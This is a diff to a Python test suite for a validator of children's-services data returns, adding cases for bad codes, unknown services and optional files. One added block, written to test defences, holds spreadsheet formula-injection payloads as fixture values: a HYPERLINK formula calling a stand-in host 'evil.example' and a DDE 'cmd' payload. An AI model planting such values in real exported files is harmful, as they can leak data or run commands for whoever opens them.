@@ -17,6 +17,7 @@ from tests.queries.mini_return import MINI_RETURN, replace_line, write_mini_retu
 
 AS_OF = date(2025, 6, 1)
 HEADER = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB"
+EPISODE_4 = "C2,03/03/2022,S,V2,N2,P1,,01/06/2024,E13,,"  # C2's episode up to HOME_POST
 
 
 @dataclass(frozen=True)
@@ -175,6 +176,25 @@ CASES = [
         2,
         "UPN",
         line("header.csv", 2, "C1,1,01/05/2010,WBRI,A1234567890123,0,"),
+    ),
+    # Text a spreadsheet would run as a formula (OWASP "CSV Injection") never loads: codes, postcodes, pupil
+    # numbers and names of areas and sources never begin with = + - @ (a tab or CR is stripped on reading).
+    Case("TEXT_FORMULA", "header.csv", 2, "UPN", line("header.csv", 2, "C1,1,01/05/2010,WBRI,=1+1,0,")),
+    Case("TEXT_FORMULA", "episodes.csv", 4, "HOME_POST", line("episodes.csv", 4, EPISODE_4 + "=A1,,")),
+    *(
+        Case(
+            "TEXT_FORMULA",
+            "comparators.csv",
+            2,
+            column,
+            line("comparators.csv", 2, "placements_3plus_pct," + text),
+        )
+        for column, text in (
+            ("AREA", '2024,"=HYPERLINK(""http://evil.example/?x"",""England"")",10.1,DfE'),
+            ("AREA", "2024,+cmd|' /C calc'!A0,10.1,DfE"),
+            ("SOURCE", "2024,England,10.1,@SUM(1+1)"),
+            ("SOURCE", '2024,England,10.1,"\t-2+3"'),
+        )
     ),
     Case("KEY_DUPLICATE", "visits.csv", 3, "CHILD, VISIT_DATE", line("visits.csv", 3, "C1,2023-04-15")),
     Case(
@@ -346,6 +366,45 @@ CASES = [
         "SUPERVISIONS_ON_TIME",
         line("workforce.csv", 2, "2024-03,21.5,3,4.25,0.5,310,22,23"),
     ),
+    Case(
+        "SERVICE_UNKNOWN",
+        "inspections.csv",
+        3,
+        "SERVICE_ID",
+        line("inspections.csv", 3, "SC999999,20/02/2023,OUTSTANDING"),
+    ),
+    Case(
+        "SERVICE_UNKNOWN",
+        "service_costs.csv",
+        2,
+        "SERVICE_ID",
+        line("service_costs.csv", 2, "SC999999,01/04/2023,4000"),
+    ),
+    Case(
+        "URN_NOT_A_SERVICE",
+        "episodes.csv",
+        2,
+        "URN",
+        line("episodes.csv", 2, "C1,01/04/2023,S,C2,N1,U4,PR1,10/01/2024,X1,,JE2,JE3,SC654321"),
+    ),
+    Case(
+        "CODE_INVALID",
+        "services.csv",
+        2,
+        "KIND",
+        line(
+            "services.csv",
+            2,
+            "SC123456,Harbour House,Government of Jersey,HOME,1,1,4,4200.5,,GOOD,12/03/2024",
+        ),
+    ),
+    Case(
+        "CODE_INVALID",
+        "inspections.csv",
+        2,
+        "GRADE",
+        line("inspections.csv", 2, "SC123456,12/03/2024,Good"),
+    ),
 ]
 
 
@@ -456,3 +515,41 @@ def test_every_file_is_a_table_and_its_key_is_the_primary_key():
         assert [column.name for column in spec.columns] == [
             column.name for column in RETURN_TABLES[file].columns if column.name != "source_row"
         ]
+
+
+@pytest.mark.parametrize("name", ["services.csv", "inspections.csv", "service_costs.csv"])
+def test_the_service_files_are_optional(tmp_path, name):
+    folder = write_mini_return(tmp_path)
+    (folder / name).unlink()
+    if name == "services.csv":  # the histories name its services, so they go with it
+        for history in ("inspections.csv", "service_costs.csv"):
+            (folder / history).unlink()
+
+    report = validate_return(folder, as_of=AS_OF, known_indicators={"placements_3plus_pct"})
+
+    assert report.ok, report.to_text()
+    assert report.warnings == []
+    assert name not in report.row_counts
+
+
+def test_histories_without_services_name_unknown_services(tmp_path):
+    folder = write_mini_return(tmp_path)
+    (folder / "services.csv").unlink()
+
+    report = validate_return(folder, as_of=AS_OF)
+
+    assert {(finding.rule, finding.file) for finding in report.errors} == {
+        ("SERVICE_UNKNOWN", "inspections.csv"),
+        ("SERVICE_UNKNOWN", "service_costs.csv"),
+    }
+
+
+def test_a_contract_may_end_in_the_future(tmp_path):
+    services = replace_line(
+        "services.csv",
+        2,
+        "SC123456,Harbour House,Government of Jersey,CHILDRENS_HOME,1,1,4,4200.5,31/03/2027,,",
+    )
+    report = validate_return(write_mini_return(tmp_path, services_csv=services), as_of=AS_OF)
+
+    assert report.ok, report.to_text()
